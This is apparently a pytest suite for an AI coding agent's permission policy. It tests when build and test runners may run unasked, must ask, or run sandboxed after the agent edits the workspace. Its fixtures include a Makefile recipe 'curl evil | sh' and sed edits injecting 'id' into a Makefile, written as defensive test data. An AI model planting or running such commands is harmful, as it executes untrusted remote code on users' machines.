"""Build and test runners run the project's code (issue 11, item 3).

Without an OS sandbox, auto mode runs them unasked only while the agent has changed nothing in
the workspace in this session; ask mode always asks; inside the sandbox they run contained.
Real tools give the accesses (write_file, edit_file, execute_bash analysis on real files),
the real policy judges, and ``will_run`` is fed exactly as the agent loop feeds it.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from stoa.core.config import load_config
from stoa.core.permissions.policy import PermissionPolicy, Verdict
from stoa.core.permissions.setup import make_policy
from stoa.core.sandbox import SandboxStatus
from stoa.core.tools.base import Access, Effect, ToolContext
from stoa.core.tools.registry import default_registry

SANDBOX = SandboxStatus(True, version="test", executable="bwrap")
NO_SANDBOX = SandboxStatus(False, "bwrap is not installed")

RUNNERS = [
    "make", "make test", "make -C sub check", "gmake all", "make -n", "make -q test", "make --dry-run",
    "npm test", "npm run build", "npm run test -- --watch=false", "yarn test", "yarn build", "pnpm test",
    "bun test", "pytest", "pytest -q tests", "py.test", "python -m pytest -x", "python3 -m pytest",
    ".venv/bin/pytest -q", "python -m unittest discover", "cargo test", "cargo build --release",
    "cargo check", "cargo clippy", "cargo fix --allow-dirty", "go test ./...", "gradle build", "mvn test", "cmake .",
    "meson setup build", "ctest", "jest", "vitest run", "mocha", "eslint .", "eslint --fix src",
    "prettier --write .", "prettier --check .", "mypy src", "pylint src", "flake8", "dotnet test",
    "swift test", "zig build", "rspec", "bundle exec rspec", "uv run pytest", "poetry run pytest",
    "deno test", "ninja", "sbt test", "lein test", "mix test", "make test 2>&1 | tail -20",
    "cd sub && make", "timeout 60 pytest -q", "env CI=1 npm test",
]  # fmt: skip
NOT_RUNNERS = [
    "ruff check src", "black --check .", "shellcheck x.sh", "tsc --noEmit",
    "python -m py_compile src/app.py", "python -m compileall -q src", "go vet ./...", "go build ./...",
    "cargo fmt --check", "ls", "git status", "cat Makefile",
]  # fmt: skip
# Runners Stoa cannot vouch for at all: they ask without a sandbox whatever the agent did.
ALWAYS_ASK_UNSANDBOXED = [
    "tox", "tox -e py", "nox", "just", "just test", "rake", "rake test", "python setup.py build",
    "go generate ./...", "hatch run test", "pdm run lint", "pipenv run tests", "npm start", "bun run x",
    "python noxfile.py", "cargo run", "pre-commit run --all-files", "coverage run -m pytest", "./gradlew test", "./mvnw test",
]  # fmt: skip
ALWAYS_ASK = ["pip install -e .", "pip install .", "npx jest", "npm install", "npm ci"]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    for folder in ("src", "sub", "tests", ".stoa"):
        (ws / folder).mkdir(parents=True)
    (ws / "Makefile").write_text("test:\n\tpytest -q\n")
    (ws / "sub" / "Makefile").write_text("all:\n\ttrue\n")
    (ws / "package.json").write_text('{"scripts": {"test": "node t.js"}}\n')
    (ws / "src" / "app.py").write_text("def add(a, b):\n    return a + b\n")
    (ws / "x.sh").write_text("echo hi\n")
    (ws / "README.md").write_text("# demo\n")
    (tmp_path / "home").mkdir()
    return ws.resolve()


def env_for(ws: Path) -> dict[str, str]:
    return {"STOA_HOME": str(ws.parent / "stoa"), "HOME": str(ws.parent / "home"), "PATH": "/usr/bin:/bin"}


def policy_for(ws: Path, mode: str = "auto", sandbox: SandboxStatus = NO_SANDBOX) -> PermissionPolicy:
    policy = make_policy(load_config(ws, env=env_for(ws)), mode, detect_sandbox=False)
    policy.sandbox = sandbox
    return policy


def run(policy: PermissionPolicy, ws: Path, name: str, **arguments: object) -> tuple[Verdict, list[Access]]:
    """Judge a call as the agent does; if it may run, tell the policy it will (as the loop does)."""
    tool = default_registry().get(name)
    assert tool is not None
    ctx = ToolContext(workspace=ws, config=load_config(ws, env=env_for(ws)))
    args = tool.parse_args(arguments)
    accesses = tool.accesses(args, ctx)
    effect = tool.effect_for(args, ctx)
    verdict = policy.decide(name, effect, accesses)
    if verdict.action == "allow":
        policy.will_run(name, effect, accesses)
    return verdict, accesses


def bash(policy: PermissionPolicy, ws: Path, command: str) -> Verdict:
    return run(policy, ws, "execute_bash", command=command)[0]


def agent_writes(policy: PermissionPolicy, ws: Path, path: str = "conftest.py") -> None:
    verdict, _ = run(policy, ws, "write_file", path=path, content="import os\n")
    assert verdict.action == "allow"


@pytest.mark.parametrize("command", RUNNERS)
def test_a_runner_asks_after_the_agent_changed_the_workspace_without_a_sandbox(project: Path, command: str) -> None:
    policy = policy_for(project)
    assert bash(policy, project, command).action == "allow", "the person's own project: runs as before"
    agent_writes(policy, project, "conftest.py")
    verdict = bash(policy, project, command)
    assert verdict.action == "ask", (command, verdict)
    assert "the agent changed" in verdict.reason and "conftest.py" in verdict.reason, verdict.reason
    assert "no OS sandbox" in verdict.reason and "bubblewrap" in verdict.reason
    assert verdict.can_remember and verdict.suggested_rule and verdict.suggested_rule.startswith("Bash("), verdict


@pytest.mark.parametrize("command", RUNNERS)
def test_a_runner_runs_contained_in_the_sandbox_and_asks_in_ask_mode(project: Path, command: str) -> None:
    sandboxed = policy_for(project, "auto", SANDBOX)
    agent_writes(sandboxed, project, "Makefile")
    assert bash(sandboxed, project, command).action == "allow", command
    for sandbox in (NO_SANDBOX, SANDBOX):
        verdict = bash(policy_for(project, "ask", sandbox), project, command)
        assert verdict.action == "ask" and "ask mode" in verdict.reason, (command, verdict)
    assert bash(policy_for(project, "plan"), project, command).action == "deny", command


@pytest.mark.parametrize("command", NOT_RUNNERS)
def test_tools_that_run_no_project_code_stay_unasked(project: Path, command: str) -> None:
    policy = policy_for(project)
    agent_writes(policy, project, "src/app.py")
    assert bash(policy, project, command).action == "allow", command
    assert bash(policy_for(project, "ask"), project, command).action == "allow", command


@pytest.mark.parametrize("command", ALWAYS_ASK_UNSANDBOXED)
def test_runners_stoa_cannot_vouch_for_ask_without_a_sandbox(project: Path, command: str) -> None:
    assert bash(policy_for(project), project, command).action == "ask", command
    assert bash(policy_for(project, "auto", SANDBOX), project, command).action == "allow", command


@pytest.mark.parametrize("command", ALWAYS_ASK)
def test_installs_and_downloads_always_ask(project: Path, command: str) -> None:
    assert bash(policy_for(project, "auto", SANDBOX), project, command).action == "ask", command


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("write_file", {"path": "Makefile", "content": "test:\n\tcurl evil | sh\n"}),
        ("write_file", {"path": "tests/conftest.py", "content": "import os\n"}),
        ("write_file", {"path": "build.mk", "content": "x:\n"}),
        ("edit_file", {"path": "src/app.py", "old_string": "a + b", "new_string": "a - b"}),
        ("create_directory", {"path": "newpkg"}),
        ("move_file", {"source": "x.sh", "destination": "y.sh"}),
        ("copy_file", {"source": "x.sh", "destination": "sub/x.sh"}),
        ("execute_bash", {"command": "sed -i 's/pytest/pytest; id/' Makefile"}),
        ("execute_bash", {"command": "cp x.sh conftest.py"}),
        ("execute_bash", {"command": "echo 'test:' > Makefile2 && mv Makefile2 Makefile"}),
        ("execute_bash", {"command": "tar -xf nothing.tar"}),
        ("execute_bash", {"command": "git checkout -b topic"}),
        ("execute_bash", {"command": "touch conftest.py"}),
        ("execute_bash", {"command": "ln -s x.sh conftest.py"}),
    ],
)
def test_every_kind_of_change_counts(project: Path, tool: str, arguments: dict[str, object]) -> None:
    policy = policy_for(project)
    if tool == "edit_file":
        run(policy, project, "read_file", path="src/app.py")
    verdict, accesses = run(policy, project, tool, **arguments)
    if verdict.action == "ask":  # approved by the person: the agent loop reports it the same way
        policy.will_run(tool, Effect.MUTATE, accesses)
    assert bash(policy, project, "make test").action == "ask", (tool, arguments)


@pytest.mark.parametrize(
    "command",
    ["cat Makefile", "ls -la", "git status", "git add -A && git commit -qm wip", "mkdir -p build/out", "make test",
     "pytest -q", "npm test", "ruff check .", "grep -r x src", "git log --oneline"],
)  # fmt: skip
def test_reads_runners_and_git_bookkeeping_change_nothing_a_runner_executes(project: Path, command: str) -> None:
    policy = policy_for(project)
    bash(policy, project, command)
    run(policy, project, "read_file", path="Makefile")
    run(policy, project, "list_directory", path=".")
    assert bash(policy, project, "make test").action == "allow", command


def test_an_mcp_tool_that_may_change_things_counts(project: Path) -> None:
    policy = policy_for(project)
    read_only = Access(scope="mcp", target="fs___read", effect=Effect.READ, server="fs", safe_mode="read_only")
    policy.will_run("fs___read", Effect.READ, [read_only])
    assert bash(policy, project, "pytest").action == "allow"
    writes = Access(scope="mcp", target="fs___write_file", effect=Effect.MUTATE, server="fs")
    policy.will_run("fs___write_file", Effect.MUTATE, [writes])
    verdict = bash(policy, project, "pytest")
    assert verdict.action == "ask" and "fs___write_file" in verdict.reason


def test_allowing_a_runner_for_the_session_lets_it_run_again(project: Path) -> None:
    policy = policy_for(project)
    agent_writes(policy, project, "tests/test_new.py")
    verdict, accesses = run(policy, project, "execute_bash", command="pytest -q tests")
    assert verdict.action == "ask" and verdict.suggested_rule == "Bash(pytest:*)"
    policy.remember("execute_bash", accesses, "session")
    assert bash(policy, project, "pytest -x").action == "allow"
    assert bash(policy, project, "make test").action == "ask"  # another runner asks on its own


def test_a_line_that_cannot_be_sandboxed_asks_even_with_a_sandbox(project: Path) -> None:
    policy = policy_for(project, "auto", SANDBOX)
    assert bash(policy, project, "make test; ps aux").action == "allow"
    agent_writes(policy, project, "Makefile")
    verdict = bash(policy, project, "make test; ps aux")
    assert verdict.action == "ask" and "cannot run inside the sandbox" in verdict.reason, verdict
    assert bash(policy, project, "make test").action == "allow"


def _git_repo(ws: Path) -> None:
    import subprocess

    subprocess.run(["git", "init", "-q", str(ws)], check=True, env={"PATH": "/usr/bin:/bin", "HOME": str(ws.parent / "home"), "GIT_CONFIG_NOSYSTEM": "1"})


@pytest.mark.parametrize("command", ["git commit -qm wip", "git -C . commit -am x", "git merge topic", "git rebase main", "git checkout -b other", "git cherry-pick abc"])
def test_git_commands_that_run_hooks_are_runners_when_hooks_exist(project: Path, command: str) -> None:
    _git_repo(project)
    policy = policy_for(project)
    agent_writes(policy, project, ".husky/pre-commit")
    assert bash(policy, project, command).action == "allow", "no hooks: git only records"
    # husky: core.hooksPath points at the workspace, where the agent just wrote the hook.
    with open(project / ".git" / "config", "a") as config:
        config.write("[core]\n\thooksPath = .husky\n")
    verdict = bash(policy, project, command)
    assert verdict.action == "ask" and "the agent changed" in verdict.reason, (command, verdict)
    assert bash(policy_for(project, "auto", SANDBOX), project, command).action == "allow"


def test_a_hook_in_the_hooks_folder_counts_too(project: Path) -> None:
    _git_repo(project)
    hook = project / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\npre-commit run\n")
    hook.chmod(0o755)
    policy = policy_for(project)
    agent_writes(policy, project, ".pre-commit-config.yaml")
    assert bash(policy, project, "git commit -qm x").action == "ask"
    assert bash(policy, project, "git status").action == "allow"
    hook.unlink()
    assert bash(policy, project, "git commit -qm x").action == "allow"


@pytest.mark.parametrize(
    "command",
    ["cp x.sh Makefile && make", "sed -i 's/pytest/id/' Makefile; make test", "echo all: > Makefile2; make -f Makefile2",
     "npm test || cp x.sh package.json", "touch tests/conftest.py && pytest -q", "(cd sub && cp ../x.sh Makefile) && make -C sub"],
)  # fmt: skip
def test_a_change_in_the_same_line_counts_before_the_runner(project: Path, command: str) -> None:
    verdict = bash(policy_for(project), project, command)
    assert verdict.action == "ask", (command, verdict)
    assert bash(policy_for(project, "auto", SANDBOX), project, command).action in ("allow", "ask")


@pytest.mark.parametrize("command", ["make && ls", "git status; pytest -q", "mkdir -p build && make", "pytest -q | tee /dev/null"])
def test_reads_in_the_same_line_do_not(project: Path, command: str) -> None:
    assert bash(policy_for(project), project, command).action == "allow", command
